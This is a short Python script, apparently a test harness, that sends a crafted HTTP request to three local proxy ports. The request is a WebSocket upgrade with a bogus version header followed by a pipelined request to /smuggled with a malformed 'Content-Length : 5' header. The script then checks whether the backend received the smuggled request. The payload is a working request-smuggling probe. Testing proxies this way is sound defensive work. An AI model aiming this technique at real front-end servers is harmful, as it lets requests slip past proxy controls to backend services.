import lib, socket, time, re
b = lib.Backend(37100)
for port in (37001, 37002, 37003):
    with b.lock:
        for k in b.raw: b.raw[k] = bytearray()
        b.requests.clear()
    s = socket.create_connection(("127.0.0.1", port)); s.settimeout(1.5)
    s.sendall(b"GET /echo HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 1337\r\n\r\n"
              b"GET /smuggled HTTP/1.1\r\nHost: x\r\nContent-Length : 5\r\n\r\nhello")
    out = b""
    try:
        while True:
            d = s.recv(65536)
            if not d: break
            out += d
    except socket.timeout: pass
    s.close()
    raw = b"".join(bytes(v) for v in b.raw.values())
    print(port, "client statuses", re.findall(rb"HTTP/1\.1 (\d+)", out), "backend saw /smuggled:", b"/smuggled" in raw, "backend reqs", [r["target"] for r in b.requests])
